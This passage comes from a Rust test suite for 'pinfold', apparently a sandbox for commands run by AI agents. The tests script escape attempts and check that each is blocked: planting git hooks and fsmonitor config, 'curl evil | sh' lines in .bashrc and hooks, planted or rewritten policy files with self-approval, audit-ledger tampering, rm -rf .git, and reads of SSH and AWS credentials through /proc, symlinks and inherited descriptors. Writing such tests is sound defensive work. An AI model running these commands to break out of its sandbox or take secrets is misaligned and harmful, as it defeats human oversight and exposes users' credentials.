        fx.sh_script(
            "git_decoy",
            "t 'new hook via .git' 'printf \"#!/bin/sh\\nid\\n\" > .git/hooks/pre-commit'\n\
             t 'existing hook via .git' 'echo id >> .git/hooks/pre-push'\n\
             t 'config via .git' 'echo \"[core]\" >> .git/config'\n\
             t 'config via decoy' 'echo \"[alias]\" >> decoy/config'\n\
             t 'new hook via decoy' 'echo id > decoy/hooks/pre-commit'\n",
        )
    };
    let mut c = Fx::new(u, "git_dir_replaced_by_symlink_before_start");
    setup(&mut c);
    let snap = git_protected(&c.proj.join("decoy"));
    let r = c.control(&script(&c));
    c.assert_control(&r, &snap.changes(), true);

    let mut a = Fx::new(u, "git_dir_replaced_by_symlink_before_start");
    setup(&mut a);
    let snap = git_protected(&a.proj.join("decoy"));
    let r = a.exec(&[], &script(&a));
    if r.code == Some(125) && !r.started() {
        assert!(
            !r.stderr.trim().is_empty() && snap.changes().is_empty(),
            "{}: pinfold refused to start (fine) but without an error message or after a host \
             change: {:?}\n{}",
            a.label(),
            snap.changes(),
            r.show()
        );
        return;
    }
    a.assert_refused(&r, &snap.changes());
}

/// ESCAPES 5: `.git/config` (can set core.hooksPath, core.fsmonitor).
fn git_config_write(u: User) {
    attack_case(
        u,
        "git_config_write",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "git_config",
                "t 'append to .git/config' 'printf \"[core]\\n\\thooksPath = /tmp\\n\" >> .git/config'\n\
                 t 'git config --local' 'git config core.fsmonitor \"touch /tmp/pwned\"'\n",
            )
        },
        &|fx| {
            let mut v = git_files_changed(fx);
            v.retain(|c| c.contains("config"));
            v
        },
    );
}

/// Host view of the protected git files, compared with a fresh repository's.
fn git_files_changed(fx: &Fx) -> Vec<String> {
    let git = fx.proj.join(".git");
    let mut v = Vec::new();
    let cfg = fs::read_to_string(git.join("config")).unwrap_or_default();
    if cfg.contains("hooksPath") || cfg.contains("fsmonitor") {
        v.push(format!(".git/config changed: {cfg:?}"));
    }
    if fs::read_to_string(git.join("hooks/pre-push"))
        .ok()
        .as_deref()
        != Some("#!/bin/sh\nexit 0\n")
    {
        v.push(".git/hooks/pre-push changed".to_string());
    }
    v.extend(exists_change(&git.join("hooks/pre-commit")));
    v
}

/// ESCAPES 5: an existing hook, and a sample.
fn git_hooks_existing_write(u: User) {
    attack_case(
        u,
        "git_hooks_existing_write",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "hooks_existing",
                "t 'append to the existing pre-push hook' 'echo \"curl evil | sh\" >> .git/hooks/pre-push'\n\
                 t 'replace it by rename' 'echo id > x.tmp && mv x.tmp .git/hooks/pre-push'\n",
            )
        },
        &|fx| {
            let mut v = git_files_changed(fx);
            v.retain(|c| c.contains("pre-push"));
            v
        },
    );
}

/// ESCAPES 5: a hook that did not exist at start.
fn git_hooks_new_file(u: User) {
    attack_case(
        u,
        "git_hooks_new_file",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "hooks_new",
                "t 'create .git/hooks/pre-commit' 'printf \"#!/bin/sh\\nid\\n\" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'\n\
                 t 'create .git/hooks/post-checkout by rename' 'echo id > y.tmp && mv y.tmp .git/hooks/post-checkout'\n",
            )
        },
        &|fx| {
            ["pre-commit", "post-checkout"]
                .iter()
                .filter_map(|h| exists_change(&fx.proj.join(".git/hooks").join(h)))
                .collect()
        },
    );
}

/// ESCAPES 5: pinfold's own policy file (the test policy is the project's `pinfold.toml`).
fn pinfold_config_write(u: User) {
    attack_case(
        u,
        "pinfold_config_write",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "pinfold_toml",
                "t 'append to pinfold.toml' 'echo \"[[rules]]\" >> pinfold.toml'\n\
                 t 'replace pinfold.toml by rename' 'echo x > p.tmp && mv p.tmp pinfold.toml'\n\
                 t 'delete pinfold.toml' 'rm pinfold.toml'\n",
            )
        },
        &|fx| {
            changed_file(
                &fx.proj.join("pinfold.toml"),
                &Some(TEST_POLICY.as_bytes().to_vec()),
            )
            .into_iter()
            .collect()
        },
    );
}

/// ESCAPES 5-6 under the embedded default preset: pinfold's config files that do not exist yet.
fn pinfold_config_new_default_preset(u: User) {
    let names = POLICY_NAMES;
    attack_case(
        u,
        "pinfold_config_new_default_preset",
        &|fx| fx.use_default_preset(),
        &|fx| {
            let body: String = names
                .iter()
                .map(|n| format!("t 'create {n}' 'echo \"[defaults]\" > {n}'\n"))
                .collect();
            fx.sh_script("pinfold_new", &body)
        },
        &|fx| {
            names
                .iter()
                .filter_map(|n| exists_change(&fx.proj.join(n)))
                .collect()
        },
    );
}

/// The gap placeholders cannot close: a command run at the project root plants
/// `sub/pinfold.toml` (allow everything), where no placeholder stands. The planted file must
/// not be read by a later `pinfold check` whose working directory is `sub/` (it is refused, with
/// `pinfold trust` as the way on), and the command cannot approve it itself: `pinfold trust`
/// from inside fails and the list of approved files stays as it was. The control: the same file
/// written on the host, outside any run, is read; and once a person approves the planted one,
/// it is read too.
fn planted_policy_file_in_a_subdirectory(u: User) {
    let mut fx = Fx::new(u, "planted_policy_file_in_a_subdirectory");
    fs::create_dir_all(fx.proj.join("sub")).unwrap();
    fx.own();
    let planted = "[defaults]\naction = \"allow\"\n";
    let sub_policy = fx.proj.join("sub/pinfold.toml");
    let check_in_sub = |fx: &Fx| -> Run {
        let argv = vec![pinfold_bin(), "check".into(), "--cwd".into(), Fx::s(&fx.proj.join("sub")), "--".into(), "frobnicate --everything".into()];
        run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT)
    };
    // Control: written on the host, outside any sandboxed run, the file is policy.
    fx.put(&sub_policy, planted);
    fx.own();
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(0), "{}: the host's own sub/pinfold.toml must be read\n{}", fx.label(), r.show());
    fs::remove_file(&sub_policy).unwrap();
    // The attack: the same file, planted by a sandboxed command, which also tries to approve it.
    let state = fx.home.join(".local/state/pinfold");
    let trusted = state.join("trusted");
    let before = fs::read(&trusted).ok();
    let argv = fx.sh_script(
        "plant",
        &format!(
            "printf '{}' > {}; echo planted=$?\n{} trust {} && echo ESCAPED: approved from inside || echo refused: trust\n",
            planted.replace('\n', "\\n").replace('"', "\\\""),
            Fx::s(&sub_policy),
            pinfold_bin(),
            Fx::s(&sub_policy)
        ),
    );
    let r = fx.exec(&[], &argv);
    assert!(r.stdout.contains("planted=0"), "{}: the plant itself should succeed (the gap this case is about)\n{}", fx.label(), r.show());
    assert!(r.escaped().is_empty(), "{}: {:?}\n{}", fx.label(), r.escaped(), r.show());
    assert_eq!(fs::read(&trusted).ok(), before, "{}: the list of approved files changed from inside", fx.label());
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(2), "{}: a planted policy file was read\n{}", fx.label(), r.show());
    assert!(r.stderr.contains("pinfold trust"), "{}: the refusal should say how to approve\n{}", fx.label(), r.show());
    // A person approves it (outside any sandbox): now it is read.
    let argv = vec![pinfold_bin(), "trust".into(), Fx::s(&sub_policy)];
    let t = run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT);
    assert_eq!(t.code, Some(0), "{}\n{}", fx.label(), t.show());
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(0), "{}: an approved file must be read\n{}", fx.label(), r.show());
    fx.config = None;
}

/// The same gap for a nested policy file that exists: a person's `sub/pinfold.toml` (which
/// asks for everything) is not protected while a command runs at the root, so the command can
/// rewrite it to allow everything. The rewritten file must not be read by a later check in
/// `sub/`; the person's own later edit, outside any run, is read again.
fn rewritten_policy_file_in_a_subdirectory(u: User) {
    let mut fx = Fx::new(u, "rewritten_policy_file_in_a_subdirectory");
    let sub_policy = fx.proj.join("sub/pinfold.toml");
    fx.put(&sub_policy, "[defaults]\naction = \"ask\"\n");
    fx.own();
    let check_in_sub = |fx: &Fx| -> Run {
        let argv = vec![pinfold_bin(), "check".into(), "--cwd".into(), Fx::s(&fx.proj.join("sub")), "--".into(), "frobnicate --everything".into()];
        run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT)
    };
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(10), "{}: the person's policy asks\n{}", fx.label(), r.show());
    let argv = fx.sh_script(
        "rewrite",
        &format!("sed -i 's/ask/allow/' {}; echo rewritten=$?\n", Fx::s(&sub_policy)),
    );
    let r = fx.exec(&[], &argv);
    assert!(r.stdout.contains("rewritten=0"), "{}: the rewrite itself should succeed (the gap this case is about)\n{}", fx.label(), r.show());
    assert!(fs::read_to_string(&sub_policy).unwrap().contains("allow"), "{}: the file was not rewritten", fx.label());
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(2), "{}: a policy file rewritten from inside was read\n{}", fx.label(), r.show());
    // Outside any run (and more than a second after it, so not in its interval), the person
    // edits the file themselves: read again.
    std::thread::sleep(Duration::from_millis(1100));
    fx.put(&sub_policy, "[defaults]\naction = \"deny\"\n");
    fx.own();
    let r = check_in_sub(&fx);
    assert_eq!(r.code, Some(11), "{}: the person's own edit must be read\n{}", fx.label(), r.show());
    fx.config = None;
}

/// Every name policy discovery reads (`find_one` in crates/policy/src/config/load.rs).
const POLICY_NAMES: [&str; 8] = [
    "pinfold.toml",
    "pinfold.yaml",
    "pinfold.yml",
    "pinfold.json",
    "pinfold.local.toml",
    "pinfold.local.yaml",
    "pinfold.local.yml",
    "pinfold.local.json",
];

/// ESCAPES 5-6 from a working directory below the project root: a policy file made in it
/// would be the nearest one for the commands that follow there (and a `pinfold.local.*` beside
/// the root's policy would add to it). Whatever the preset says, no name discovery reads may be
/// created, in the root or in the working directory.
fn pinfold_config_new_under_working_dir(u: User) {
    let setup = |fx: &mut Fx| {
        fx.use_default_preset();
        fs::create_dir_all(fx.proj.join("sub")).unwrap();
        fx.own();
    };
    let script = |fx: &Fx| {
        let mut body = String::new();
        for dir in [fx.proj.clone(), fx.proj.join("sub")] {
            for n in POLICY_NAMES {
                let p = Fx::s(&dir.join(n));
                body.push_str(&format!("t 'create {p}' 'echo \"[defaults]\" > {p}'\n"));
            }
        }
        fx.sh_script("pinfold_new_sub", &body)
    };
    let changes = |fx: &Fx| -> Vec<String> {
        [fx.proj.clone(), fx.proj.join("sub")]
            .iter()
            .flat_map(|d| POLICY_NAMES.iter().map(move |n| d.join(n)))
            .filter_map(|p| exists_change(&p))
            .collect()
    };
    let mut c = Fx::new(u, "pinfold_config_new_under_working_dir");
    setup(&mut c);
    let argv = script(&c);
    let r = c.control(&argv);
    c.assert_control(&r, &changes(&c), true);

    let mut a = Fx::new(u, "pinfold_config_new_under_working_dir");
    setup(&mut a);
    let argv = script(&a);
    let sub = Fx::s(&a.proj.join("sub"));
    let r = a.exec(&["--cwd", &sub], &argv);
    a.assert_refused(&r, &changes(&a));
}

/// ESCAPES 5-6 with two runs at once in one project (an agent's parallel tool calls): run A
/// creates the placeholders for the missing policy files; run B, started while A runs, relies
/// on the same ones. A ends first. B's command then tries to create the policy files: A must
/// not have removed what B's protection stands on (on unlink the kernel detaches a mount in
/// other namespaces). Meanwhile a `pinfold check` in the project must not mistake the empty
/// placeholders for policy, and after both runs no placeholder is left.
fn placeholders_outlive_a_concurrent_run(u: User) {
    let names = ["pinfold.toml", "pinfold.local.toml", "pinfold.yaml", "pinfold.json"];
    let body: String = std::iter::once("sleep 2\n".to_string())
        .chain(names.iter().map(|n| format!("t 'create {n} after the other run ended' 'echo \"[defaults]\" > {n}'\n")))
        .collect();
    let changes = |fx: &Fx| -> Vec<String> { names.iter().filter_map(|n| exists_change(&fx.proj.join(n))).collect() };

    let mut c = Fx::new(u, "placeholders_outlive_a_concurrent_run");
    c.use_default_preset();
    let argv = c.sh_script("concurrent", &body);
    let r = c.control(&argv);
    c.assert_control(&r, &changes(&c), true);

    let mut a = Fx::new(u, "placeholders_outlive_a_concurrent_run");
    a.use_default_preset();
    let argv = a.sh_script("concurrent", &body);
    // Run A: short, started first.
    let first = a.exec_argv(&[], &["sleep".into(), "0.7".into()]);
    let mut first = a.cmd(&first);
    first.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::piped());
    let mut first = first.spawn().expect("spawn run A");
    let deadline = Instant::now() + Duration::from_secs(10);
    while !a.proj.join("pinfold.toml").exists() {
        assert!(Instant::now() < deadline, "{}: run A never put its placeholders in place", a.label());
        std::thread::sleep(Duration::from_millis(10));
    }
    // Run B, and a check while both run.
    let b = std::thread::scope(|scope| {
        let b = scope.spawn(|| a.exec(&[], &argv));
        std::thread::sleep(Duration::from_millis(300));
        let check = run_cmd(a.cmd(&[pinfold_bin(), "check".into(), "--".into(), "ls".into()]), "pinfold check -- ls".into(), None, TIMEOUT);
        assert_eq!(check.code, Some(0), "{}: a check beside running sandboxes failed\n{}", a.label(), check.show());
        b.join().expect("run B")
    });
    let status = first.wait().expect("wait for run A");
    assert!(status.success(), "{}: run A failed: {status}", a.label());
    a.assert_refused(&b, &changes(&a));
    let left: Vec<&str> = names.iter().copied().filter(|n| a.proj.join(n).symlink_metadata().is_ok()).collect();
    assert!(left.is_empty(), "{}: placeholders left behind: {left:?}", a.label());
}

/// The audit ledger and its signing key, kept inside the project (a writable root) on
/// purpose: the command can neither read them nor change, truncate, delete or move them, and
/// the chain verifies afterwards (with pinfold's own exec_start and exec_end in it).
fn audit_ledger_out_of_reach(u: User) {
    let setup = |fx: &mut Fx| {
        let state = fx.proj.join("audit");
        fx.env.insert("PINFOLD_STATE_DIR".into(), Fx::s(&state));
        let argv = [pinfold_bin(), "audit".into(), "checkpoint".into()];
        let r = run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT);
        assert_eq!(r.code, Some(0), "{}: cannot make a ledger\n{}", fx.label(), r.show());
    };
    attack_case(
        u,
        "audit_ledger_out_of_reach",
        &setup,
        &|fx| {
            fx.sh_script(
                "ledger",
                "t 'read the ledger' 'grep -q hash audit/ledger.jsonl'\n\
                 t 'read the signing key' 'grep -q . audit/ledger.key'\n\
                 t 'append to the ledger' 'echo x >> audit/ledger.jsonl'\n\
                 t 'truncate the ledger' 'true > audit/ledger.jsonl'\n\
                 t 'delete the checkpoints' 'rm audit/ledger.checkpoints'\n\
                 t 'move the ledger away' 'mv audit audit.gone'\n",
            )
        },
        &|fx| {
            let mut v: Vec<String> = exists_change(&fx.proj.join("audit.gone")).into_iter().collect();
            let argv = [pinfold_bin(), "audit".into(), "verify".into()];
            let r = run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT);
            if r.code != Some(0) {
                v.push(format!("audit verify: exit {:?}: {}", r.code, r.all().trim()));
            }
            v
        },
    );
}

/// ESCAPES 5: shell rc files, under the default preset, in the worst place: HOME is the project
/// (the agent was started in `~`), so HOME is a writable root and only the deny list protects
/// `~/.bashrc` (existing) and `~/.profile`, `~/.zshrc` (new).
fn shell_rc_files_default_preset(u: User) {
    let setup = |fx: &mut Fx| {
        fx.use_default_preset();
        fx.cwd = fx.home.clone();
    };
    attack_case(
        u,
        "shell_rc_files_default_preset",
        &setup,
        &|fx| {
            fx.sh_script(
                "rc",
                "t 'append to ~/.bashrc' 'echo \"curl evil|sh\" >> ~/.bashrc'\n\
                 t 'create ~/.profile' 'echo id > ~/.profile'\n\
                 t 'create ~/.zshrc' 'echo id > ~/.zshrc'\n\
                 t 'create ~/.bash_profile' 'echo id > ~/.bash_profile'\n",
            )
        },
        &|fx| {
            let mut v: Vec<String> = changed_file(
                &fx.home.join(".bashrc"),
                &Some(b"# original bashrc\n".to_vec()),
            )
            .into_iter()
            .collect();
            v.extend(
                [".profile", ".zshrc", ".bash_profile"]
                    .iter()
                    .filter_map(|n| exists_change(&fx.home.join(n))),
            );
            v
        },
    );
}

/// ESCAPES 6: `.env` and `denied-dir` are in the deny list but do not exist at start. After the
/// run they must not exist on the host (placeholders removed).
fn deny_path_created_after_start(u: User) {
    attack_case(
        u,
        "deny_path_created_after_start",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "deny_new",
                "t 'create .env' 'echo TOKEN=x > .env'\n\
                 t 'create .env by rename' 'echo TOKEN=x > e.tmp && mv e.tmp .env'\n\
                 t 'create a file in denied-dir' 'mkdir -p denied-dir && echo x > denied-dir/f'\n",
            )
        },
        &|fx| {
            let mut v: Vec<String> = exists_change(&fx.proj.join("denied-dir/f"))
                .into_iter()
                .collect();
            if fs::read(fx.proj.join(".env")).is_ok_and(|c| !c.is_empty()) {
                v.push(".env has content".to_string());
            }
            if v.is_empty() {
                // The placeholder must be gone after exit ("no host change").
                v.extend(
                    exists_change(&fx.proj.join(".env"))
                        .map(|c| format!("{c} after exit (placeholder left behind?)")),
                );
            }
            v
        },
    );
}

/// Proof "deny globs": `keys/*.pem` matches `keys/server.pem`, which exists at start.
fn deny_glob_write(u: User) {
    attack_case(
        u,
        "deny_glob_write",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "deny_glob",
                "t 'write keys/server.pem (deny glob)' 'echo x > keys/server.pem'\n\
                 t 'delete keys/server.pem' 'rm keys/server.pem'\n",
            )
        },
        &|fx| {
            changed_file(
                &fx.proj.join("keys/server.pem"),
                &Some(b"original pem\n".to_vec()),
            )
            .into_iter()
            .collect()
        },
    );
}

/// The repository's history as the host sees it, or why it is broken.
fn history(fx: &Fx, dir: &Path) -> Result<String, String> {
    let out = Command::new("git")
        .args(["-C", &Fx::s(dir), "log", "--format=%H %s"])
        .env_clear()
        .envs(&fx.env)
        .envs([
            ("GIT_CONFIG_COUNT", "1"),
            ("GIT_CONFIG_KEY_0", "safe.directory"),
            ("GIT_CONFIG_VALUE_0", "*"),
        ])
        .output()
        .map_err(|e| e.to_string())?;
    if out.status.success() {
        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

/// ESCAPES 7: `mv .git .g` — refused, history intact.
fn git_dir_rename(u: User) {
    attack_case(
        u,
        "git_dir_rename",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "git_mv",
                "t 'mv .git/hooks away' 'mv .git/hooks hooks.bak'\nt 'mv .git .g' 'mv .git .g'\n",
            )
        },
        &|fx| {
            let mut v = Vec::new();
            if !fx.proj.join(".git/HEAD").exists() {
                v.push(".git/HEAD is gone (the .git directory was moved)".to_string());
            }
            if !fx.proj.join(".git/hooks/pre-push").exists() {
                v.push(".git/hooks was moved".to_string());
            }
            if let Err(e) = history(fx, &fx.proj) {
                v.push(format!("history unreadable: {e}"));
            }
            v
        },
    );
}

/// ESCAPES 7: `rm -rf .git` — refused, history intact. Note: this demands more than read-only
/// hooks/config: `.git/objects` is writable (for `git commit`), so `rm -rf` could delete the
/// objects before failing on hooks. The spec says "history intact"; this test holds it to that.
fn git_dir_delete(u: User) {
    attack_case(
        u,
        "git_dir_delete",
        &|_| {},
        &|fx| fx.sh_script("git_rm", "t 'rm -rf .git' 'rm -rf .git'\n"),
        &|fx| {
            let mut v = Vec::new();
            if !fx.proj.join(".git").exists() {
                v.push(".git is gone".to_string());
            }
            for f in ["config", "hooks/pre-push", "HEAD"] {
                if !fx.proj.join(".git").join(f).exists() {
                    v.push(format!(".git/{f} is gone"));
                }
            }
            match history(fx, &fx.proj) {
                Ok(h) if h.contains("initial") => {}
                Ok(h) => v.push(format!("history changed: {h:?}")),
                Err(e) => v.push(format!("history destroyed: {e}")),
            }
            v
        },
    );
}

/// A worktree: the project's `.git` is a file pointing into a main repository elsewhere. The
/// common git dir must be writable for `git commit` (positive test), but its hooks and config
/// are as dangerous as the project's own and must stay protected.
fn make_worktree(fx: &mut Fx) {
    let main = fx.out.join("main");
    fs::create_dir_all(&main).expect("mkdir");
    fx.init_repo(&main);
    let wt = fx.base.join("wt");
    fx.host_ok(&[
        "git",
        "-C",
        &Fx::s(&main),
        "worktree",
        "add",
        "-q",
        "-b",
        "wt",
        &Fx::s(&wt),
    ]);
    fx.cwd = wt.clone();
    fx.put(&wt.join("pinfold.toml"), TEST_POLICY);
    fx.config = Some(wt.join("pinfold.toml"));
    fx.own();
}

/// Red team (issue 14, F2): a `.git` *file* is project content a sandboxed command can
/// write, and `pinfold exec` made what its `gitdir:` names writable for the next command —
/// `gitdir: /` opened the whole file system. A planted one (here naming a directory outside
/// the project that looks like a git directory) must name nothing.
fn make_planted_git_file(fx: &mut Fx) {
    let proj = fx.base.join("planted");
    fs::create_dir_all(&proj).expect("mkdir");
    fx.put(&fx.out.join("HEAD"), "ref: refs/heads/main\n");
    fx.put(&proj.join(".git"), &format!("gitdir: {}\n", fx.out.display()));
    fx.put(&proj.join("pinfold.toml"), TEST_POLICY);
    fx.config = Some(proj.join("pinfold.toml"));
    fx.cwd = proj;
    fx.own();
}

fn planted_git_file_names_no_writable_root(u: User) {
    attack_case(
        u,
        "planted_git_file_names_no_writable_root",
        &make_planted_git_file,
        &|fx| fx.sh_script("planted_gitdir", &format!("t 'write where gitdir: points' 'echo x > {}/planted'\n", Fx::s(&fx.out))),
        &|fx| exists_change(&fx.out.join("planted")).into_iter().collect(),
    );
}

/// The same through `commondir`: a git directory planted inside the project (with the
/// back-link git writes) whose `commondir` names a directory outside.
fn make_planted_commondir(fx: &mut Fx) {
    let proj = fx.base.join("planted");
    let evil = proj.join(".evil");
    fs::create_dir_all(&evil).expect("mkdir");
    fx.put(&evil.join("HEAD"), "ref: refs/heads/main\n");
    fx.put(&evil.join("gitdir"), &format!("{}\n", proj.join(".git").display()));
    fx.put(&evil.join("commondir"), &format!("{}\n", fx.out.display()));
    fx.put(&fx.out.join("HEAD"), "ref: refs/heads/main\n");
    fx.put(&proj.join(".git"), "gitdir: .evil\n");
    fx.put(&proj.join("pinfold.toml"), TEST_POLICY);
    fx.config = Some(proj.join("pinfold.toml"));
    fx.cwd = proj;
    fx.own();
}

fn planted_commondir_names_no_writable_root(u: User) {
    attack_case(
        u,
        "planted_commondir_names_no_writable_root",
        &make_planted_commondir,
        &|fx| fx.sh_script("planted_commondir", &format!("t 'write where commondir points' 'echo x > {}/planted'\n", Fx::s(&fx.out))),
        &|fx| exists_change(&fx.out.join("planted")).into_iter().collect(),
    );
}

fn worktree_common_git_dir_protected(u: User) {
    attack_case(
        u,
        "worktree_common_git_dir_protected",
        &make_worktree,
        &|fx| {
            let g = Fx::s(&fx.out.join("main/.git"));
            fx.sh_script(
                "wt_protected",
                &format!(
                    "t 'common dir config' 'echo \"# pinfold-attack\" >> {g}/config'\n\
                     t 'common dir new hook' 'echo id > {g}/hooks/pre-commit'\n\
                     t 'common dir existing hook' 'echo id >> {g}/hooks/pre-push'\n"
                ),
            )
        },
        &|fx| {
            let g = fx.out.join("main/.git");
            let mut v: Vec<String> = exists_change(&g.join("hooks/pre-commit"))
                .into_iter()
                .collect();
            if fs::read_to_string(g.join("hooks/pre-push")).ok().as_deref()
                != Some("#!/bin/sh\nexit 0\n")
            {
                v.push("main/.git/hooks/pre-push changed".to_string());
            }
            if fs::read_to_string(g.join("config"))
                .unwrap_or_default()
                .contains("pinfold-attack")
            {
                v.push("main/.git/config changed".to_string());
            }
            v
        },
    );
}

// ---------------------------------------------------------------------------------------------
// 8. Reading denied paths
// ---------------------------------------------------------------------------------------------

both_users!(
    read_secrets_direct,
    read_secrets_via_proc_paths,
    read_secrets_via_symlink,
    read_secrets_via_hardlink,
    read_secrets_via_inherited_fd,
);

/// A read attack: the token must appear in the control's output and nowhere in the sandbox's.
fn read_case(
    u: User,
    name: &str,
    setup: &dyn Fn(&mut Fx),
    script: &dyn Fn(&Fx) -> Vec<String>,
    wrap: bool,
) {
    let go = |fx: &Fx, sandboxed: bool| {
        let argv = script(fx);
        let argv = if sandboxed {
            fx.exec_argv(&[], &argv)
        } else {
            argv
        };
        let argv = if wrap {
            // Open the secrets as fds 3 and 4 on the host, then start the command with them.
            let mut w = vec![
                "bash".to_string(),
                "-c".into(),
                format!(
                    "exec 3<{} 4<{}; exec \"$@\"",
                    Fx::s(&fx.home.join(".ssh/id_rsa")),
                    Fx::s(&fx.proj.join("secret.txt"))
                ),
                "wrap".into(),
            ];
            w.extend(argv);
            w
        } else {
            argv
        };
        let r = run_cmd(fx.cmd(&argv), argv.join(" "), None, TIMEOUT);
        if sandboxed {
            fx.check_implemented(&r);
        }
        r
    };
    let mut c = Fx::new(u, name);
    setup(&mut c);
    let r = go(&c, false);
    let leaks: Vec<String> = r
        .stdout
        .lines()
        .filter(|l| l.contains(&c.token))
        .map(String::from)
        .collect();
    c.assert_control(&r, &leaks, false);

    let mut a = Fx::new(u, name);
    setup(&mut a);
    let r = go(&a, true);
    let mut bad: Vec<String> = r
        .all()
        .lines()
        .filter(|l| l.contains(&a.token))
        .map(|l| format!("secret content visible inside: {l}"))
        .collect();
    // Reading is no host change, but a read attack must not have damaged the secrets either.
    if !fs::read_to_string(a.home.join(".ssh/id_rsa")).is_ok_and(|s| s.contains(&a.token)) {
        bad.push("~/.ssh/id_rsa damaged on the host".to_string());
    }
    a.assert_refused(&r, &bad);
}

/// Each path printed on its own line, prefixed by the path, so a leak names its route.
fn cat_each(paths: &[String]) -> String {
    paths
        .iter()
        .map(|p| format!("echo \"[{p}]: $(cat {p} 2>&1 | head -c 300)\"\n"))
        .collect()
}

/// ESCAPES 8, Proof "reading ~/.ssh/id_*": direct reads of read-denied paths.
fn read_secrets_direct(u: User) {
    read_case(
        u,
        "read_secrets_direct",
        &|_| {},
        &|fx| {
            let h = Fx::s(&fx.home);
            fx.sh_script(
                "read_direct",
                &(cat_each(&[
                    format!("{h}/.ssh/id_rsa"),
                    "~/.ssh/id_rsa".into(),
                    format!("{h}/.aws/credentials"),
                    "secret.txt".into(),
                    format!("{}/secret.txt", Fx::s(&fx.proj)),
                ]) + "grep -r . ~/.ssh ~/.aws 2>&1 | head -5\n"),
            )
        },
        false,
    );
}

/// ESCAPES 8: via `/proc/self/root`, `/proc/1/root`, `/proc/1/cwd`, `/proc/$$/cwd`.
fn read_secrets_via_proc_paths(u: User) {
    read_case(
        u,
        "read_secrets_via_proc_paths",
        &|_| {},
        &|fx| {
            let h = Fx::s(&fx.home);
            let p = Fx::s(&fx.proj);
            fx.sh_script(
                "read_proc",
                &cat_each(&[
                    format!("/proc/self/root{h}/.ssh/id_rsa"),
                    format!("/proc/self/root{p}/secret.txt"),
                    format!("/proc/1/root{h}/.ssh/id_rsa"),
                    "/proc/1/cwd/secret.txt".into(),
                    "/proc/$$/cwd/secret.txt".into(),
                    "/proc/self/cwd/secret.txt".into(),
                    format!("/proc/$$/root{h}/.ssh/id_rsa"),
                ]),
            )
        },
        false,
    );
}

/// ESCAPES 8: symlinks to read-denied files, planted before start and made inside.
fn read_secrets_via_symlink(u: User) {
    read_case(
        u,
        "read_secrets_via_symlink",
        &|fx| {
            symlink(fx.home.join(".ssh/id_rsa"), fx.proj.join("pre-ssh-link")).expect("symlink");
            symlink(fx.home.join(".ssh"), fx.proj.join("pre-ssh-dir")).expect("symlink");
            symlink(fx.proj.join("secret.txt"), fx.proj.join("pre-secret-link")).expect("symlink");
            fx.own();
        },
        &|fx| {
            fx.sh_script(
                "read_symlink",
                &(format!(
                    "ln -s {}/.ssh/id_rsa in-link; ln -s secret.txt in-secret\n",
                    Fx::s(&fx.home)
                ) + &cat_each(&[
                    "pre-ssh-link".into(),
                    "pre-ssh-dir/id_rsa".into(),
                    "pre-secret-link".into(),
                    "in-link".into(),
                    "in-secret".into(),
                ])),
            )
        },
        false,
    );
}

/// ESCAPES 8: hard links to read-denied files made from inside (if creatable at all).
fn read_secrets_via_hardlink(u: User) {
    read_case(
        u,
        "read_secrets_via_hardlink",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "read_hardlink",
                &(format!(
                    "ln {}/.ssh/id_rsa hl-ssh 2>&1; ln secret.txt hl-secret 2>&1\n",
                    Fx::s(&fx.home)
                ) + &cat_each(&["hl-ssh".into(), "hl-secret".into()])),
            )
        },
        false,
    );
}

/// ESCAPES 8, Proof "open fds": fds 3 and 4 opened on the secrets by the caller before
/// `pinfold exec` starts must not be readable inside.
fn read_secrets_via_inherited_fd(u: User) {
    read_case(
        u,
        "read_secrets_via_inherited_fd",
        &|_| {},
        &|fx| {
            fx.sh_script(
                "read_fd",
                &(cat_each(&["/proc/self/fd/3".into(), "/proc/self/fd/4".into()])
                    + "echo \"[fd3]: $(head -c 300 <&3 2>&1)\"\necho \"[fd4]: $(head -c 300 <&4 2>&1)\"\n"),
            )
        },
        true,
    );
}

// ---------------------------------------------------------------------------------------------
// 9. Devices, setuid, privileges
// ---------------------------------------------------------------------------------------------

both_users!(privileges_no_new_privs_no_caps);
only_user!(root: mknod_device);
only_user!(nobody: setuid_root_binary);

/// ESCAPES 9, Proof "setuid binaries (NoNewPrivs 1, CapEff 0)". The control's "escape" is a
/// host process without no_new_privs (and, for root, with capabilities).
fn privileges_no_new_privs_no_caps(u: User) {
    let script = |fx: &Fx| {
        fx.sh_script(
            "privs",
            "grep -E '^(NoNewPrivs|CapEff|CapPrm|CapAmb):' /proc/self/status\n\
             nnp=$(awk '/^NoNewPrivs:/{print $2}' /proc/self/status)\n\
             eff=$(awk '/^CapEff:/{print $2}' /proc/self/status)\n\
             [ \"$nnp\" = 1 ] && echo 'refused: no_new_privs is set' || echo 'ESCAPED: no_new_privs is not set'\n\
             [ \"$eff\" = 0000000000000000 ] && echo 'refused: no effective capabilities' || echo \"ESCAPED: effective capabilities $eff\"\n",
        )
    };
    let c = Fx::new(u, "privileges_no_new_privs_no_caps");
    let r = c.control(&script(&c));
    // uid 65534 has no capabilities on the host either; its control needs only NoNewPrivs 0.
    let host: Vec<String> = r.escaped().iter().map(|s| s.to_string()).collect();
    assert!(
        r.stdout.contains("ESCAPED: no_new_privs is not set"),
        "{}: CONTROL FAILED: host processes already have no_new_privs set\n{}",
        c.label(),
        r.show()
    );
    assert!(!host.is_empty());
